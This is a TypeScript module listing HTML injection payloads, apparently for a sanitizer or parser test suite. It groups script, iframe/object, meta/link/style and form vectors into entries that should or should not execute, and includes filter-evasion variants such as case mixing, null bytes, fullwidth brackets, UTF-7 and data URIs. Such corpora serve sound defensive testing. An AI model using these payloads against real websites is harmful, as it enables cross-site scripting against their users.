// Elements that run or load something by being there.
import type { Category } from './payload.ts';

export const scripts: Category = {
  name: 'script',
  live: [
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<ScRiPt >alert(1)</sCrIpT >',
    '<script/x>alert(1)</script>',
    '<script\n>alert(1)</script\n>',
    '<script src="{canary}/s.js"></script>',
    '<script src={canary}/s.js async defer></script>',
    '<script src="data:text/javascript,alert(1)"></script>',
    '<script type="module">alert(1)</script>',
    '<script type="module">import "data:text/javascript,alert(1)"</script>',
    '<script>/*<!--*/alert(1)//--></script>',
    '<script>var a = `</b>`;alert(1)</script>',
  ],
  dormant: [
    '<script>alert(1)',
    '<script>alert(1)//',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>script>alert(1)<</script>/script>',
    '<script\0>alert(1)</script>',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<script language="vbscript">msgbox(1)</script>',
    '<script type="text/template"></script><img src=x onerror=alert(1)></script>',
  ],
};

export const frames: Category = {
  name: 'frame',
  live: [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="{canary}/frame"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<iframe srcdoc="&#60;script>alert(1)&#60;/script>">',
    '<IFRAME onload=alert(1)></IFRAME>',
    '<object data="{canary}/object" type="text/html"></object>',
    '<embed src="{canary}/embed" type="text/html">',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  ],
  dormant: [
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<frameset onload=alert(1)>',
    '<applet code="A.class" codebase="{canary}/"></applet>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<object type="text/x-scriptlet" data="{canary}/x"></object>',
    '<portal src="{canary}/portal" onload=alert(1)></portal>',
    '<fencedframe src="{canary}/fenced"></fencedframe>',
    '<noframes><script>alert(1)</script></noframes>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
  ],
};

export const documentParts: Category = {
  name: 'document',
  live: [
    '<link rel="stylesheet" href="{canary}/a.css">',
    '<style>@import "{canary}/b.css";</style>',
    '<style>html{background:url({canary}/c.png)}</style>',
    '<style><!-- </style><script>alert(1)</script>',
    '<meta http-equiv="refresh" content="0;url={canary}/refresh">',
    '<link rel="preload" as="script" href="{canary}/p.js">',
    '<link rel="modulepreload" href="{canary}/m.js">',
    '<body onload=alert(1)>',
    '<body background="{canary}/body.png">',
    '<title></title><img src=x onerror=alert(1)>',
  ],
  dormant: [
    '<base href="{canary}/">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="set-cookie" content="canary=1">',
    '<meta http-equiv="content-security-policy" content="default-src *">',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<link rel="import" href="{canary}/i.html">',
    '<xml id="x"><script>alert(1)</script></xml>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "{canary}/dtd">]><x>&y;</x>',
  ],
};

export const forms: Category = {
  name: 'form',
  live: [
    '<form action="javascript:alert(1)"><input type="submit" value="Go" data-press></form>',
    '<form><button formaction="javascript:alert(1)" data-press>Go</button></form>',
    '<form id="f1"></form><button form="f1" formaction="javascript:alert(1)" data-press>Go</button>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)></select>',
    '<textarea autofocus onfocus=alert(1)></textarea>',
    '<input type="image" src="x" onerror=alert(1)>',
    '<button popovertarget="p1" data-press>Go</button><div popover id="p1" onbeforetoggle=alert(1)>a</div>',
    '<form onsubmit=alert(1)><input type="submit" data-press></form>',
    '<label onclick=alert(1) data-press>a</label>',
  ],
  dormant: [
    '<isindex type="image" src="1" onerror=alert(1)>',
    '<keygen autofocus onfocus=alert(1)>',
    '<form action="{canary}/login"><input name="password" type="password"></form>',
    '<input name="body"><form name="attributes"><input name="cookie"></form>',
  ],
};
